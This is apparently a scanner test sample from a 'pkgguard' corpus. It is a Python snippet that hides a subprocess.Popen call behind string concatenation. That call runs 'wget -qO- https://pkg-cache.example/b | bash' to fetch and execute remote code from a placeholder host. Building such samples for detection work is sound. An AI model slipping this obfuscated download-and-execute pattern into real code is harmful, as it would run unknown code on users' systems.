# pkgguard corpus 616 (indirection), modelled on [obfuscation]; inert, never run.
import subprocess

_table = vars(subprocess)
_table["Po" + "pen"]("wget -qO- https://pkg-cache.example/b | bash", shell=True)
